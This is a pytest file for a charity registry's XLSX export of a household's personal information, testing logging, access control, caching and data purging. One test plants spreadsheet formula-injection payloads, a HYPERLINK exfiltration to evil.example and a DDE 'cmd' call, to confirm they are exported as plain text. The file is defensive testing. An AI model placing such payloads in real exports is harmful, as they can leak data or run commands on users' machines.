"""A household's personal-information copy (PIPL art. 45): what is held and who saw its contact or address,
as XLSX for staff of its region who keep the registry; formula-safe, logged, never cached."""

import io
from datetime import date, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from marketplace.demo.identities import id_number
from marketplace.modelbase import utcnow
from marketplace.needs.models import Need
from marketplace.privacy import retention
from marketplace.registry.models import AccessLog, Household
from marketplace.security.models import SecurityEvent
from support import login, post

NAME, PHONE, ADDRESS = "李凤兰", "13905587777", "涡阳县楚店镇李庄村8号"
ID_NUMBER = id_number("341621", date(1955, 6, 1), 321)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.fixture
def household(world):
    household = world.household(name=NAME, id_number=ID_NUMBER, phone=PHONE, address=ADDRESS, household_no="3416210009",
                                head_birth_year=1955, hardships=["独居"])
    return household


def copy(client, household, **kw):
    page = f"/staff/households/{household.public_code}"
    return post(client, f"{page}/pi-copy", page=page, **kw)


def sheets(response) -> dict[str, list[tuple]]:
    book = load_workbook(io.BytesIO(response.get_data()))
    return {sheet.title: [tuple(c.value for c in row) for row in sheet.iter_rows()] for sheet in book}


def cells(response):
    book = load_workbook(io.BytesIO(response.get_data()))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def test_the_copy_holds_the_identity_the_chain_the_needs_and_who_saw_the_contact(client, world, household):
    need = world.need("claimed", household=household, contact_basis="household_consent")
    charity = client.application.test_client()
    login(charity, "member@charity.org.cn")
    assert post(charity, f"/needs/{need.id}/contact", page=f"/needs/{need.id}").status_code == 200
    with world.tx() as s:  # a volunteer at the door, a day ago
        s.add(AccessLog(user_id=world.volunteer, household_id=household.id, action="view_address",
                        purpose="参加志愿服务班次，上门服务", path="/shifts/1/address", at=utcnow() - timedelta(days=1)))

    login(client, "poster@guoyang.gov.cn")
    page = client.get(f"/staff/households/{household.public_code}").get_data(as_text=True)
    assert "生成个人信息副本" in page
    response = copy(client, household)
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "no-store" in response.headers["Cache-Control"]
    assert household.public_code in response.headers["Content-Disposition"]
    book = sheets(response)
    assert list(book) == ["说明", "持有的信息", "变更记录", "救助链", "需求", "查看记录"]
    held = dict(book["持有的信息"][1:])
    assert (held["户主姓名"], held["身份证号"], held["联系电话"], held["详细地址"]) == (NAME, ID_NUMBER, PHONE, ADDRESS)
    assert held["户编号"] == "3416210009" and held["困难情形"] == "独居" and held["名单状态"] == "在册"
    assert [row[1] for row in book["需求"][1:]] == ["大一新生学费缺口"]
    seen = [(row[1], row[2], row[4]) for row in book["查看记录"][1:]]
    assert ("查看联系方式", "member", "涡阳县慈善协会") in seen
    assert ("查看服务地址", "helper", "涡阳县") in seen
    assert ("查看救助链与身份信息", "poster", "涡阳县") in seen  # staff who opened the household page
    assert seen[-1][:2] == ("生成个人信息副本", "poster")  # this copy itself


def test_the_chain_sheet_lists_the_entries_with_their_hashes(client, world, household):
    world.need("verified", household=household)
    login(client, "poster@guoyang.gov.cn")
    chain = sheets(copy(client, household))["救助链"]
    assert chain[0][0] == "链上序号" and len(chain) == 2
    assert chain[1][0] == 1 and chain[1][9] == "涡阳县慈善协会" and len(chain[1][13]) == 64


def test_every_cell_is_text_or_a_value_never_a_formula(client, world, household):
    need = world.need("open", household=household)
    with world.tx() as s:
        s.execute(update(Need).where(Need.id == need.id).values(title=FORMULA, description="@SUM(1+1)*cmd|' /C calc'!A0"))
        s.add(AccessLog(user_id=world.poster, household_id=household.id, action="view_chain", purpose="-2+3",
                        path="/x"))
    login(client, "poster@guoyang.gov.cn")
    response = copy(client, household)
    every = cells(response)
    assert every and all(cell.data_type != "f" for cell in every)
    values = {cell.value for cell in every}
    assert FORMULA in values or "'" + FORMULA in values


def test_producing_the_copy_is_logged_in_the_access_log_and_the_security_log(client, world, household):
    login(client, "poster@guoyang.gov.cn")
    assert copy(client, household).status_code == 200
    with world.tx() as s:
        rows = s.scalars(select(AccessLog).where(AccessLog.action == "pi_copy")).all()
        assert [(r.user_id, r.household_id) for r in rows] == [(world.poster, household.id)]
        event = s.scalars(select(SecurityEvent).where(SecurityEvent.kind == "pi_copy")).one()
        assert (event.actor_id, event.region_code, event.detail["household"]) == (
            world.poster, household.region_code, household.public_code)
        assert NAME not in str(event.detail) and ID_NUMBER not in str(event.detail)


def test_staff_of_another_county_or_without_the_registry_duty_get_no_copy(client, world, household):
    login(client, "staff@mengcheng.gov.cn")
    response = copy(client, household)
    assert response.status_code in (403, 404) and NAME.encode() not in response.get_data()
    world.staff("reader@guoyang.gov.cn", duties=("need_posting",))
    reader = client.application.test_client()
    login(reader, "reader@guoyang.gov.cn")
    assert "生成个人信息副本" not in reader.get(f"/staff/households/{household.public_code}").get_data(as_text=True)
    assert copy(reader, household).status_code == 403
    assert client.get(f"/staff/households/{household.public_code}/pi-copy").status_code == 405
    with world.tx() as s:
        assert s.scalars(select(AccessLog).where(AccessLog.action == "pi_copy")).all() == []
        assert s.scalars(select(SecurityEvent).where(SecurityEvent.kind == "pi_copy")).all() == []


def test_a_purged_households_copy_says_the_identity_is_no_longer_held(app, client, world, household):
    with world.tx() as s:
        s.get(Household, household.id).status = "exited"
        s.flush()
        s.get(Household, household.id).left_at = utcnow() - timedelta(days=4 * 365)
    retention.purge(app.extensions["marketplace.engine"], retention.Periods.from_config(app.config))
    login(client, "poster@guoyang.gov.cn")
    book = sheets(copy(client, household))
    held = dict(book["持有的信息"][1:])
    assert held["户主姓名"] == held["身份证号"] == "已按保存期限清除" and held["名单状态"] == "已退出救助名单"
    assert NAME not in str(book)
